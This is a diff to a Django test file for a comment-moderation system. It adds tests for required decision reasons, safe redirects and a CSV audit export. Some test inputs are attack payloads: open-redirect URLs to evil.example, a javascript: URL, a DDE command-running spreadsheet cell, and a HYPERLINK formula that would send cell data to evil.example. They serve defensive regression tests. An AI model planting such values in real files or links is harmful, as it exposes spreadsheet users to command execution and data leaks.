@@ -1,6 +1,8 @@
 """Moderation: the queue, decisions with published reasons, flags, official responses, audit log, email."""
 
+import csv
 import datetime
+import io
 import threading
 
 import pytest
@@ -15,23 +17,13 @@ from dialogue.models import Comment, Flag, ModerationEvent, OfficialResponse
 
 from .factories import make_comment, make_moderator, make_statement, make_user
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("generous_rate_limit")]
 Status = Comment.Status
-
-
-@pytest.fixture(autouse=True)
-def _generous_rate_limit(settings):
-    settings.COMMENT_RATE_LIMIT = (100_000, 600)
 
 
 @pytest.fixture
 def statement():
     return make_statement(title_en="Statement under moderation")
-
-
-@pytest.fixture
-def moderator():
-    return make_moderator(display_name="Moe")
 
 
 @pytest.fixture
@@ -170,6 +162,15 @@ class TestDecisions:
         client.logout()
         assert "A pending comment about border wait times." in client.get(statement.get_absolute_url()).text
 
+    @pytest.mark.parametrize("decide", [services.comment_reject, services.comment_hide])
+    @pytest.mark.parametrize("reason", ["", "not-a-rule-of-the-policy"])
+    def test_the_services_refuse_without_a_reason_in_the_forms_words(self, statement, moderator, decide, reason):
+        """Any caller (admin, command, bulk) meets the same rule and message as the moderation form."""
+        comment = make_comment(statement, approve_by=moderator if decide is services.comment_hide else None)
+        with pytest.raises(services.NotAllowed, match=r"Choose the rule this comment breaks\."):
+            decide(comment=comment, moderator=moderator, reason=reason)
+        assert Comment.objects.get(pk=comment.pk).status == comment.status
+
     def test_reject_needs_a_reason_and_tells_the_author(
         self, client, pending, moderator, django_capture_on_commit_callbacks
     ):
@@ -261,6 +262,24 @@ class TestDecisions:
         response = client.post("/en/moderation/bulk/", {"bulk_action": "reject", "comments": [comment.pk]}, follow=True)
         assert "Choose the rule this comment breaks." in response.text
         assert Comment.objects.get(pk=comment.pk).status == Status.PENDING
+
+    @pytest.mark.parametrize(
+        "target",
+        ["https://evil.example/", "//evil.example/", "/\\evil.example/", "/\t/evil.example/", "javascript:alert(1)"],
+    )
+    def test_a_destination_off_the_site_is_replaced_by_the_queue(self, client, statement, moderator, target):
+        """After a decision the moderator goes back to `next` only if it is a page of the portal."""
+        comment = make_comment(statement)
+        client.force_login(moderator)
+        response = client.post(f"/en/moderation/comments/{comment.tracking_number}/approve/", {"next": target})
+        assert response.status_code == 302 and response["Location"] == "/en/moderation/"
+
+    @pytest.mark.parametrize("target", ["/en/moderation/?status=flagged&page=2", "http://testserver/en/moderation/"])
+    def test_a_destination_on_the_site_is_kept(self, client, statement, moderator, target):
+        comment = make_comment(statement)
+        client.force_login(moderator)
+        response = client.post(f"/en/moderation/comments/{comment.tracking_number}/approve/", {"next": target})
+        assert response["Location"] == target
 
     def test_a_failing_email_never_undoes_the_decision(
         self, client, pending, moderator, settings, django_capture_on_commit_callbacks, caplog
@@ -395,6 +414,19 @@ class TestAuditLog:
         rows = b"".join(response.streaming_content).decode().splitlines()
         assert rows[0] == "time,comment,action,from_status,to_status,reason,note,actor"
         assert len(rows) == 2 and second.tracking_number in rows[1] and "Advertising." in rows[1]
+
+    def test_export_neutralises_cells_a_spreadsheet_would_run(self, client, statement):
+        """A moderator's name and note that look like formulas reach the CSV as text, behind one quote."""
+        hostile = make_moderator(display_name="@SUM(1+1)*cmd|' /C calc'!A0")
+        comment = make_comment(statement, body="A comment that a hostile-looking moderator rejects.")
+        note = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+        services.comment_reject(comment=comment, moderator=hostile, reason="spam", note=note)
+        client.force_login(hostile)
+        text = b"".join(client.get("/en/moderation/log.csv?action=reject").streaming_content).decode()
+        row = next(csv.DictReader(io.StringIO(text)))
+        assert row["note"] == "'" + note
+        assert row["actor"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+        assert row["comment"] == comment.tracking_number and row["reason"] == "spam"
 
 
 def test_moderation_digest_emails_moderators_in_their_language(statement, pending, capsys):
